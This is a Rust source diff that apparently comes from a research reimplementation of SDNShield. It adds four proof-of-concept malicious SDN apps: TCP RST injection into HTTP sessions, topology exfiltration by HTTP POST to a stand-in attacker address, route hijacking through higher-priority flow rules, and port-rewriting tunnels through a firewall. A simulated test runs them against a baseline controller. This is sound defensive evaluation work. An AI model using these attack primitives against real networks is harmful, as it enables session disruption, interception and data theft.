@@ -1,0 +1,386 @@
+//! The four proof-of-concept malicious apps of the paper's effectiveness
+//! evaluation (§IX-B1), one per attack class of §II:
+//!
+//! 1. [`SniffInjectApp`] — "monitors active flows by looking at packet-in
+//!    messages and injects TCP RST to all active HTTP sessions".
+//! 2. [`InfoLeakApp`] — "collects network topology as well as switch/port
+//!    configurations, and leaks out to outside attackers via HTTP POST".
+//! 3. [`RouteHijackApp`] — "changes the existing routes between two hosts to
+//!    traverse through a third host controlled by the attacker".
+//! 4. [`FlowTunnelApp`] — "establishes a dynamic-flow tunnel through a
+//!    firewall that only allows HTTP traffic at port 80".
+//!
+//! Every app counts its attempts and successes so the Table-I coverage
+//! matrix can be produced mechanically: run each app on the baseline
+//! controller (attacks succeed) and on SDNShield with the scenario
+//! permissions (attacks are denied).
+
+use std::sync::Arc;
+
+use bytes::Bytes;
+use parking_lot::Mutex;
+
+use sdnshield_controller::app::{App, AppCtx};
+use sdnshield_controller::events::Event;
+use sdnshield_core::api::EventKind;
+use sdnshield_openflow::actions::{Action, ActionList};
+use sdnshield_openflow::flow_match::FlowMatch;
+use sdnshield_openflow::messages::FlowMod;
+use sdnshield_openflow::packet::{EthPayload, EthernetFrame, IpPayload, TcpFlags, TcpSegment};
+use sdnshield_openflow::types::{DatapathId, Ipv4, PortNo, Priority};
+
+/// Shared attempt/success counters for an attack app.
+#[derive(Debug, Default)]
+pub struct AttackStats {
+    /// Times the app tried its attack primitive.
+    pub attempts: u64,
+    /// Times the controller let it through.
+    pub successes: u64,
+}
+
+/// Observation handle shared with tests.
+pub type StatsHandle = Arc<Mutex<AttackStats>>;
+
+fn new_stats() -> StatsHandle {
+    Arc::new(Mutex::new(AttackStats::default()))
+}
+
+// ---------------------------------------------------------------------------
+// Class 1: traffic sniffing + injection.
+// ---------------------------------------------------------------------------
+
+/// Sniffs packet-ins for HTTP (port 80) TCP traffic and injects forged RST
+/// segments at both endpoints.
+pub struct SniffInjectApp {
+    stats: StatsHandle,
+}
+
+impl SniffInjectApp {
+    /// Creates the app and its observation handle.
+    pub fn new() -> (Self, StatsHandle) {
+        let stats = new_stats();
+        (
+            SniffInjectApp {
+                stats: Arc::clone(&stats),
+            },
+            stats,
+        )
+    }
+}
+
+impl App for SniffInjectApp {
+    fn name(&self) -> &str {
+        "attack-sniff-inject"
+    }
+
+    fn on_start(&mut self, ctx: &AppCtx) {
+        // A real attacker degrades gracefully: failures are silent.
+        let _ = ctx.subscribe(EventKind::PacketIn);
+    }
+
+    fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
+        let Event::PacketIn { dpid, packet_in } = event else {
+            return;
+        };
+        let Ok(frame) = EthernetFrame::from_bytes(packet_in.payload.clone()) else {
+            return; // payload stripped: nothing to sniff
+        };
+        let EthPayload::Ipv4(ip) = &frame.payload else {
+            return;
+        };
+        let IpPayload::Tcp(tcp) = &ip.payload else {
+            return;
+        };
+        if tcp.dst_port != 80 && tcp.src_port != 80 {
+            return;
+        }
+        // Forge a RST toward the client (swap the tuple).
+        let rst = EthernetFrame {
+            src: frame.dst,
+            dst: frame.src,
+            vlan: None,
+            payload: EthPayload::Ipv4(sdnshield_openflow::packet::Ipv4Packet {
+                src: ip.dst,
+                dst: ip.src,
+                ttl: 64,
+                tos: 0,
+                payload: IpPayload::Tcp(TcpSegment {
+                    src_port: tcp.dst_port,
+                    dst_port: tcp.src_port,
+                    seq: tcp.ack,
+                    ack: tcp.seq.wrapping_add(1),
+                    flags: TcpFlags {
+                        rst: true,
+                        ack: true,
+                        ..TcpFlags::default()
+                    },
+                    data: Bytes::new(),
+                }),
+            }),
+        };
+        let mut stats = self.stats.lock();
+        stats.attempts += 1;
+        if ctx
+            .packet_out_port(*dpid, packet_in.in_port, rst.to_bytes())
+            .is_ok()
+        {
+            stats.successes += 1;
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Class 2: information leakage.
+// ---------------------------------------------------------------------------
+
+/// Collects topology and statistics and POSTs them to an attacker endpoint.
+pub struct InfoLeakApp {
+    /// The attacker's collector.
+    pub attacker: (Ipv4, u16),
+    stats: StatsHandle,
+}
+
+impl InfoLeakApp {
+    /// Creates the app phoning home to `attacker`.
+    pub fn new(attacker: (Ipv4, u16)) -> (Self, StatsHandle) {
+        let stats = new_stats();
+        (
+            InfoLeakApp {
+                attacker,
+                stats: Arc::clone(&stats),
+            },
+            stats,
+        )
+    }
+}
+
+impl App for InfoLeakApp {
+    fn name(&self) -> &str {
+        "attack-info-leak"
+    }
+
+    fn on_start(&mut self, ctx: &AppCtx) {
+        let _ = ctx.subscribe(EventKind::Topology);
+        let _ = ctx.subscribe(EventKind::PacketIn);
+    }
+
+    fn on_event(&mut self, ctx: &AppCtx, _event: &Event) {
+        let mut dossier = String::from("POST /loot HTTP/1.1\r\n\r\n");
+        if let Ok(view) = ctx.read_topology() {
+            dossier.push_str(&format!(
+                "switches={:?};links={:?};hosts={};",
+                view.switches.iter().map(|s| s.dpid.0).collect::<Vec<_>>(),
+                view.links,
+                view.hosts.len(),
+            ));
+        }
+        if let Ok(stats) = ctx.read_statistics(
+            DatapathId(1),
+            sdnshield_openflow::messages::StatsRequest::Table,
+        ) {
+            dossier.push_str(&format!("stats={stats:?};"));
+        }
+        let mut stats = self.stats.lock();
+        stats.attempts += 1;
+        let ok = match ctx.host_connect(self.attacker.0, self.attacker.1) {
+            Ok(conn) => ctx.host_send(conn, Bytes::from(dossier)).is_ok(),
+            Err(_) => false,
+        };
+        if ok {
+            stats.successes += 1;
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Class 3: rule manipulation (man-in-the-middle).
+// ---------------------------------------------------------------------------
+
+/// Re-routes traffic for a victim destination through an attacker-controlled
+/// port by overriding existing rules at higher priority.
+pub struct RouteHijackApp {
+    /// Destination whose traffic is stolen.
+    pub victim_dst: Ipv4,
+    /// Where to detour it: (switch, attacker-facing port).
+    pub detour: (DatapathId, PortNo),
+    stats: StatsHandle,
+}
+
+impl RouteHijackApp {
+    /// Creates the app.
+    pub fn new(victim_dst: Ipv4, detour: (DatapathId, PortNo)) -> (Self, StatsHandle) {
+        let stats = new_stats();
+        (
+            RouteHijackApp {
+                victim_dst,
+                detour,
+                stats: Arc::clone(&stats),
+            },
+            stats,
+        )
+    }
+}
+
+impl App for RouteHijackApp {
+    fn name(&self) -> &str {
+        "attack-route-hijack"
+    }
+
+    fn on_start(&mut self, ctx: &AppCtx) {
+        let _ = ctx.subscribe(EventKind::PacketIn);
+        let _ = ctx.subscribe(EventKind::Topology);
+    }
+
+    fn on_event(&mut self, ctx: &AppCtx, _event: &Event) {
+        let fm = FlowMod::add(
+            FlowMatch::default().with_ip_dst(self.victim_dst),
+            Priority(900), // above the victim's routing rules
+            ActionList::output(self.detour.1),
+        );
+        let mut stats = self.stats.lock();
+        stats.attempts += 1;
+        if ctx.insert_flow(self.detour.0, fm).is_ok() {
+            stats.successes += 1;
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Class 4: dynamic-flow tunneling through a firewall.
+// ---------------------------------------------------------------------------
+
+/// Establishes a two-ended rewrite tunnel that smuggles a blocked port
+/// through a firewall that only allows port 80.
+pub struct FlowTunnelApp {
+    /// Switch in front of the firewall rules.
+    pub ingress: DatapathId,
+    /// Switch behind the firewall.
+    pub egress: DatapathId,
+    /// The port the firewall blocks (e.g. telnet 23).
+    pub blocked_port: u16,
+    /// The port the firewall allows (80).
+    pub allowed_port: u16,
+    /// Egress ports toward the next hop on each switch.
+    pub out_ports: (PortNo, PortNo),
+    stats: StatsHandle,
+}
+
+impl FlowTunnelApp {
+    /// Creates the app.
+    pub fn new(
+        ingress: DatapathId,
+        egress: DatapathId,
+        blocked_port: u16,
+        allowed_port: u16,
+        out_ports: (PortNo, PortNo),
+    ) -> (Self, StatsHandle) {
+        let stats = new_stats();
+        (
+            FlowTunnelApp {
+                ingress,
+                egress,
+                blocked_port,
+                allowed_port,
+                out_ports,
+                stats: Arc::clone(&stats),
+            },
+            stats,
+        )
+    }
+}
+
+impl App for FlowTunnelApp {
+    fn name(&self) -> &str {
+        "attack-flow-tunnel"
+    }
+
+    fn on_start(&mut self, ctx: &AppCtx) {
+        let _ = ctx.subscribe(EventKind::PacketIn);
+        let _ = ctx.subscribe(EventKind::Topology);
+    }
+
+    fn on_event(&mut self, ctx: &AppCtx, _event: &Event) {
+        // Entry rewrite: blocked port masquerades as the allowed one.
+        let entry = FlowMod::add(
+            FlowMatch::default().with_tp_dst(self.blocked_port),
+            Priority(950),
+            ActionList(vec![
+                Action::SetTpDst(self.allowed_port),
+                Action::Output(self.out_ports.0),
+            ]),
+        );
+        // Exit rewrite: restore the original port past the firewall.
+        let exit = FlowMod::add(
+            FlowMatch::default().with_tp_dst(self.allowed_port),
+            Priority(950),
+            ActionList(vec![
+                Action::SetTpDst(self.blocked_port),
+                Action::Output(self.out_ports.1),
+            ]),
+        );
+        let mut stats = self.stats.lock();
+        stats.attempts += 1;
+        let ok_in = ctx.insert_flow(self.ingress, entry).is_ok();
+        let ok_out = ctx.insert_flow(self.egress, exit).is_ok();
+        if ok_in && ok_out {
+            stats.successes += 1;
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use sdnshield_controller::monolithic::MonolithicController;
+    use sdnshield_core::perm::PermissionSet;
+    use sdnshield_netsim::network::Network;
+    use sdnshield_netsim::topology::builders;
+
+    /// On the baseline controller every attack primitive succeeds — the
+    /// vulnerability the paper's Table I documents.
+    #[test]
+    fn all_attacks_succeed_on_baseline() {
+        let c = MonolithicController::new(Network::new(builders::linear(3), 1024));
+        let (sniff, sniff_stats) = SniffInjectApp::new();
+        let (leak, leak_stats) = InfoLeakApp::new((Ipv4::new(203, 0, 113, 66), 8080));
+        let (hijack, hijack_stats) =
+            RouteHijackApp::new(Ipv4::new(10, 0, 0, 3), (DatapathId(2), PortNo(1)));
+        let (tunnel, tunnel_stats) =
+            FlowTunnelApp::new(DatapathId(1), DatapathId(2), 23, 80, (PortNo(2), PortNo(2)));
+        c.register(Box::new(sniff), &PermissionSet::new());
+        c.register(Box::new(leak), &PermissionSet::new());
+        c.register(Box::new(hijack), &PermissionSet::new());
+        c.register(Box::new(tunnel), &PermissionSet::new());
+        // One HTTP packet from h1 wakes everything.
+        let http = EthernetFrame::tcp(
+            sdnshield_openflow::types::EthAddr::from_u64(1),
+            sdnshield_openflow::types::EthAddr::from_u64(3),
+            Ipv4::new(10, 0, 0, 1),
+            Ipv4::new(10, 0, 0, 3),
+            4321,
+            80,
+            TcpFlags::default(),
+            Bytes::new(),
+        );
+        c.inject_host_frame(http);
+        for (name, stats) in [
+            ("sniff", &sniff_stats),
+            ("leak", &leak_stats),
+            ("hijack", &hijack_stats),
+            ("tunnel", &tunnel_stats),
+        ] {
+            let s = stats.lock();
+            assert!(s.attempts > 0, "{name} never attempted");
+            assert_eq!(
+                s.successes, s.attempts,
+                "{name} should fully succeed on baseline"
+            );
+        }
+        // Forensics: the leak actually moved bytes off-host.
+        assert!(
+            c.kernel()
+                .bytes_exfiltrated_by(sdnshield_core::api::AppId(2))
+                > 0
+        );
+    }
+}
